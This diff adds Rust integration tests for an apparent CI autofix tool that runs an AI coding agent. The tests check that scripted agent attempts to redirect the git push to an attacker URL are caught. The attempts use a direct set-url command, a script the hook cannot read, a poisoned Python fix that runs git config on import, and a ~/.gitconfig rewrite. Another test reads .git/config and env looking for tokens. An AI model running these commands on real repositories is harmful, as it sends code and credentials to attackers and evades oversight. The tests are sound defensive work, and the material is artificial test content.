@@ -321,6 +321,354 @@ fn an_event_from_a_fork_is_refused() {
     assert!(model.requests().is_empty() && ci.gh.pulls().is_empty());
 }
 
+// ---- issue 12: the token goes only where loopd decided -----------------------
+
+/// `git config` lines that send a push of the decided URL to the attacker.
+fn redirect_script(ci: &Ci, attacker: &Attacker) -> String {
+    format!(
+        "git config remote.origin.pushurl {}\ngit config url.{}.pushInsteadOf {}/\n",
+        attacker.url(),
+        attacker.base(),
+        ci.git.url()
+    )
+}
+
+fn gate_findings(events: &[loopd::journal::Event], which: loopd::journal::Gate) -> Vec<loopd::guard::tamper::Finding> {
+    events
+        .iter()
+        .filter_map(|e| match e {
+            loopd::journal::Event::GateChecked { gate, findings, .. } if *gate == which => {
+                Some(findings.clone())
+            }
+            _ => None,
+        })
+        .flatten()
+        .collect()
+}
+
+/// The files the pushed fix changes, relative to the failing commit.
+fn pushed_files(ci: &Ci) -> String {
+    remote_git(&ci.remote, &["diff", "--name-only", &ci.sha, &ci.branch()]).1
+}
+
+#[test]
+fn issue12_a_push_url_redirected_through_the_agents_bash_reaches_no_attacker() {
+    let ci = ci_env();
+    let attacker = Attacker::start();
+    let config_before = ci.config();
+    let model = ScriptedModel::start(scenario(
+        vec![
+            session(vec![
+                // Straight: the hook denies it.
+                turn(vec![bash(&format!(
+                    "git remote set-url --push origin {}",
+                    attacker.url()
+                ))]),
+                // Through a script the hook cannot read: the gate sees it.
+                turn(vec![write("redirect.sh", &redirect_script(&ci, &attacker))]),
+                turn(vec![bash("sh redirect.sh")]),
+                turn(vec![read("rechnung.py")]),
+                turn(vec![write("rechnung.py", &clean_solution())]),
+                turn(vec![text("Done.")]),
+            ]),
+            session(vec![turn(vec![bash("rm redirect.sh")]), turn(vec![text("Done.")])]),
+        ],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &["--allowed-tools", "Read,Edit,Write,Bash"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_opened", "{report}");
+    // The attacker never heard from loopd; the fix went where it was decided.
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    assert_eq!(ci.authenticated_pushes(), 1);
+    assert_eq!(pushed_files(&ci), "rechnung.py\n");
+    assert_eq!(ci.config(), config_before, "`.git/config` is as it was");
+    let events = ci_journal(&report);
+    assert!(
+        events.iter().any(|e| matches!(e, loopd::journal::Event::HookDenied { finding, .. } if finding.path.contains("git remote set-url"))),
+        "the hook denied `git remote set-url`"
+    );
+    let found = gate_findings(&events, loopd::journal::Gate::GitDir);
+    assert!(
+        found.iter().any(|f| f.path == ".git/config"),
+        "the gate after the session saw the config change: {found:?}"
+    );
+    assert_eq!(report["summary"]["attempts"][0]["rejected_by"], "protected_path");
+    assert_no_token_in_state(&ci.env);
+}
+
+#[test]
+fn issue12_a_push_url_redirected_by_code_the_goal_test_runs_reaches_no_attacker() {
+    let ci = ci_env();
+    let attacker = Attacker::start();
+    let config_before = ci.config();
+    // A "fix" that redirects the push when the tests import it.
+    let poisoned = format!(
+        "{}\nimport subprocess as _sp  # noqa: E402\n\nfor _line in {:?}.splitlines():\n    _sp.run(_line.split(' '), check=False)\n",
+        clean_solution(),
+        redirect_script(&ci, &attacker)
+    );
+    let model = ScriptedModel::start(scenario(
+        vec![agent_writes(&poisoned), agent_writes(&clean_solution())],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_opened", "{report}");
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    assert_eq!(ci.authenticated_pushes(), 1);
+    assert_eq!(ci.config(), config_before);
+    let events = ci_journal(&report);
+    let found = gate_findings(&events, loopd::journal::Gate::GitDirAfterGoal);
+    assert!(
+        found.iter().any(|f| f.path == ".git/config" && f.problem.contains("goal test")),
+        "the gate after the goal test saw the config change: {found:?}"
+    );
+    assert_eq!(
+        remote_git(&ci.remote, &["show", &format!("{}:rechnung.py", ci.branch())]).1,
+        clean_solution(),
+        "the poisoned attempt was rejected; the clean one is pushed"
+    );
+    assert_eq!(model.session_count(Role::Critic), 1, "the poisoned attempt never reached the critic");
+}
+
+#[test]
+fn issue12_a_push_url_rewritten_outside_the_repository_is_refused_not_followed() {
+    let ci = ci_env();
+    let attacker = Attacker::start();
+    // `~/.gitconfig` is not the repository's: no gate sees it, but the push
+    // notices that the decided URL would be rewritten and refuses. (The CLI
+    // refuses a redirect into `~/.gitconfig`; a script is not looked into.)
+    let global = format!(
+        "printf '[url \"%s\"]\\n\\tpushInsteadOf = %s/\\n' '{}' '{}' > \"$HOME/.gitconfig\"\n",
+        attacker.base(),
+        ci.git.url()
+    );
+    let model = ScriptedModel::start(scenario(
+        vec![session(vec![
+            turn(vec![write("setup.sh", &global)]),
+            turn(vec![bash("sh setup.sh")]),
+            turn(vec![read("rechnung.py")]),
+            turn(vec![write("rechnung.py", &clean_solution())]),
+            turn(vec![text("Done.")]),
+        ])],
+        vec![pass()],
+    ));
+    let (r, step_summary) = ci_push(&ci, &model, &["--allowed-tools", "Read,Edit,Write,Bash"]);
+    assert!(
+        std::fs::read_to_string(ci.env.home.join(".gitconfig")).is_ok_and(|t| t.contains("pushInsteadOf")),
+        "the agent wrote the rewrite"
+    );
+    assert_eq!(r.code, 5, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "error");
+    assert!(report["why"].as_str().expect("why").contains("insteadOf"), "{report}");
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    assert!(ci.git.seen().is_empty(), "not pushed at all");
+    assert!(step_summary.contains("error") && step_summary.contains("insteadOf"), "{step_summary}");
+    assert_eq!(ci.gh.statuses().last().expect("a status").1["state"], "error");
+    assert!(ci.gh.pulls().is_empty());
+}
+
+#[test]
+fn issue12_credentials_in_the_checkout_never_reach_the_agent_and_are_put_back() {
+    let ci = ci_env();
+    // What actions/checkout persists, and a personal token in a remote URL.
+    let header_value = base64(format!("x-access-token:{TOKEN}").as_bytes());
+    let pat = "ghp_personal_0f3e_never_print";
+    ci.env.git(&[
+        "config",
+        "http.https://github.example/.extraheader",
+        &format!("AUTHORIZATION: basic {header_value}"),
+    ]);
+    ci.env.git(&[
+        "remote",
+        "add",
+        "upstream",
+        &format!("https://x-access-token:{pat}@github.example/acme/rechnung.git"),
+    ]);
+    let config_before = ci.config();
+    let model = ScriptedModel::start(scenario(
+        vec![session(vec![
+            turn(vec![read(".git/config")]),
+            turn(vec![bash("cat .git/config; git config --list; env")]),
+            turn(vec![read("rechnung.py")]),
+            turn(vec![write("rechnung.py", &clean_solution())]),
+            turn(vec![text("Done.")]),
+        ])],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &["--allowed-tools", "Read,Edit,Write,Bash"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let sent: String = model
+        .requests()
+        .iter()
+        .map(|q| q.body.to_string())
+        .collect();
+    // The agent really read the config and its environment...
+    assert!(sent.contains("github.example/acme/rechnung.git"), "the Read's result reached the model");
+    assert!(sent.contains("CLAUDECODE=1"), "the env output reached the model");
+    // ...and neither held a secret.
+    for secret in [TOKEN, header_value.as_str(), pat] {
+        assert!(!sent.contains(secret), "`{secret}` reached the model");
+    }
+    assert_no_secret_in_state(&ci.env, &[TOKEN, &header_value, pat]);
+    // Put back byte for byte, and no record of them is left.
+    assert_eq!(ci.config(), config_before);
+    assert!(
+        std::fs::read_dir(ci.env.state.join("held"))
+            .map(|d| d.flatten().all(|e| e.path().extension().is_none_or(|x| x != "json")))
+            .unwrap_or(true),
+        "the held record is gone"
+    );
+    let events = ci_journal(&report(&r));
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::CredentialsHeld { removed, .. } if removed.len() == 2)));
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::CredentialsReleased { .. })));
+    // The push itself used only the token from the environment.
+    assert_eq!(ci.authenticated_pushes(), 1);
+}
+
+#[test]
+fn issue12_a_rerun_after_an_api_outage_opens_exactly_one_pull_request_without_a_model_call() {
+    let ci = ci_env();
+    // Pushed, then the API is down for every try of the pull request.
+    ci.gh.script_pulls(&[PullScript::Fail(502); 4]);
+    let model = ScriptedModel::start(scenario(
+        vec![agent_writes(&clean_solution())],
+        vec![pass()],
+    ));
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 5, "{}", r.stderr);
+    let first = report(&r);
+    assert_eq!(first["decision"], "error");
+    assert!(first["why"].as_str().expect("why").contains("open the pull request"), "{first}");
+    assert!(step_summary.contains("## loopd autofix: error"), "{step_summary}");
+    assert_eq!(ci.gh.statuses().last().expect("status").1["state"], "error");
+    assert!(remote_git(&ci.remote, &["rev-parse", &ci.branch()]).0, "pushed before the outage");
+    assert!(ci.gh.pulls().is_empty());
+
+    // The rerun: the branch carries loopd's fix of this commit.
+    let rerun_model = ScriptedModel::start(scenario(vec![], vec![]));
+    let tip = remote_git(&ci.remote, &["rev-parse", &ci.branch()]).1;
+    let (r, step_summary) = ci_push(&ci, &rerun_model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let second = report(&r);
+    assert_eq!(second["decision"], "pull_request_opened", "{second}");
+    assert!(second["summary"].is_null(), "no loop ran");
+    assert!(rerun_model.requests().is_empty(), "no model call, no cost");
+    let pulls = ci.gh.pulls();
+    assert_eq!(pulls.len(), 1);
+    assert_eq!(pulls[0].1, ci.branch());
+    assert!(pulls[0].4.contains("earlier run"), "{}", pulls[0].4);
+    assert_eq!(remote_git(&ci.remote, &["rev-parse", &ci.branch()]).1, tip, "not pushed again");
+    assert!(step_summary.contains("pull request opened"), "{step_summary}");
+    assert_eq!(ci.gh.statuses().last().expect("status").1["state"], "success");
+
+    // And once more: it exists.
+    let (r, _) = ci_push(&ci, &rerun_model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(report(&r)["decision"], "pull_request_exists");
+    assert_eq!(ci.gh.pulls().len(), 1);
+    assert!(rerun_model.requests().is_empty());
+}
+
+#[test]
+fn issue12_a_pull_request_created_behind_a_502_is_success_not_an_error() {
+    let ci = ci_env();
+    // GitHub creates the pull request, the answer is lost (502); the retry
+    // gets 422 "already exists".
+    ci.gh.script_pulls(&[PullScript::CreateThenFail(502)]);
+    let model = ScriptedModel::start(scenario(
+        vec![agent_writes(&clean_solution())],
+        vec![pass()],
+    ));
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_exists", "{report}");
+    assert_eq!(report["pull_request"]["number"], 1);
+    assert_eq!(ci.gh.pulls().len(), 1);
+    let posts = ci
+        .gh
+        .requests()
+        .into_iter()
+        .filter(|q| q.method == "POST" && q.path.ends_with("/pulls"))
+        .count();
+    assert_eq!(posts, 2, "the 502, then the 422");
+    assert_eq!(ci.gh.statuses().last().expect("status").1["state"], "success");
+    assert!(step_summary.contains("pull request exists"), "{step_summary}");
+    let events = ci_journal(&report);
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::PullRequest { number: 1, opened_now: false, .. })));
+}
+
+#[test]
+fn issue12_a_branch_with_someone_elses_commit_is_never_pushed_over() {
+    let ci = ci_env();
+    // Someone pushed by hand to loopd's branch name for this commit.
+    ci.env.git(&[
+        "push",
+        "-q",
+        &ci.remote.to_string_lossy(),
+        &format!("HEAD:refs/heads/{}", ci.branch()),
+    ]);
+    let model = ScriptedModel::start(scenario(
+        vec![agent_writes(&clean_solution())],
+        vec![pass()],
+    ));
+    let (r, step_summary) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 5, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "error");
+    assert!(report["why"].as_str().expect("why").contains("did not make"), "{report}");
+    assert!(step_summary.contains("did not make"), "{step_summary}");
+    assert!(model.requests().is_empty(), "refused before any spend");
+    assert_eq!(
+        remote_git(&ci.remote, &["rev-parse", &ci.branch()]).1.trim(),
+        ci.sha,
+        "the branch is untouched"
+    );
+}
+
+#[test]
+fn issue12_goal_and_build_artefacts_are_not_part_of_the_fix() {
+    let mut ci = ci_env();
+    // No `.gitignore` for `__pycache__`, as in many repositories, a goal
+    // step that leaves a report behind, and room for one changed file.
+    std::fs::remove_file(ci.env.repo.join(".gitignore")).expect("rm .gitignore");
+    let cfg = std::fs::read_to_string(ci.env.repo.join("loopd.toml")).expect("cfg");
+    std::fs::write(
+        ci.env.repo.join("loopd.toml"),
+        format!("{cfg}\n[[goal]]\nname = \"stamp\"\nrun = \"sh -c 'date +%N > build-stamp.txt'\"\n\n[ci]\nmax_files = 1\n"),
+    )
+    .expect("cfg");
+    ci.commit("no .gitignore; a goal step that leaves a file");
+    let model = ScriptedModel::start(scenario(
+        vec![agent_writes(&clean_solution())],
+        vec![pass()],
+    ));
+    let (r, _) = ci_push(&ci, &model, &[]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = report(&r);
+    assert_eq!(report["decision"], "pull_request_opened", "{report}");
+    assert_eq!(pushed_files(&ci), "rechnung.py\n", "only the agent's change is committed");
+    // The goal steps really left their files in the checkout...
+    for left in ["__pycache__", ".pytest_cache", "build-stamp.txt"] {
+        assert!(ci.env.repo.join(left).exists(), "{left} was not even made");
+    }
+    // ...and the critic never saw them.
+    let run_dir = PathBuf::from(report["summary"]["run_dir"].as_str().expect("run_dir"));
+    let critic_input = std::fs::read_to_string(run_dir.join("attempt-1/critic-input.txt")).expect("critic input");
+    for artefact in ["__pycache__", ".pyc", ".pytest_cache", ".ruff_cache", "b/build-stamp.txt"] {
+        assert!(!critic_input.contains(artefact), "the critic saw {artefact}");
+    }
+    assert!(critic_input.contains("b/rechnung.py"));
+    // The journal says which files the goal made.
+    let events = ci_journal(&report);
+    assert!(events.iter().any(|e| matches!(e, loopd::journal::Event::Baseline { artefacts, .. } if artefacts.contains_key("build-stamp.txt"))));
+}
+
 // ---- the durable approval gate (daemon) --------------------------------------
 
 /// A daemon job that ran to `awaiting_approval` under `[approval] action`.
@@ -564,6 +912,8 @@ assert on["workflow_run"]["types"] == ["completed"], on
 assert d["permissions"] == {"contents": "write", "pull-requests": "write", "statuses": "write"}, d["permissions"]
 steps = d["jobs"]["autofix"]["steps"]
 assert any(s.get("run", "").strip() == "loopd ci" for s in steps), steps
+checkout = [s for s in steps if s.get("uses", "").startswith("actions/checkout")]
+assert checkout and all(s["with"]["persist-credentials"] is False for s in checkout), checkout
 assert "loopd/" in d["jobs"]["autofix"]["if"]
 print("ok")
 "#;
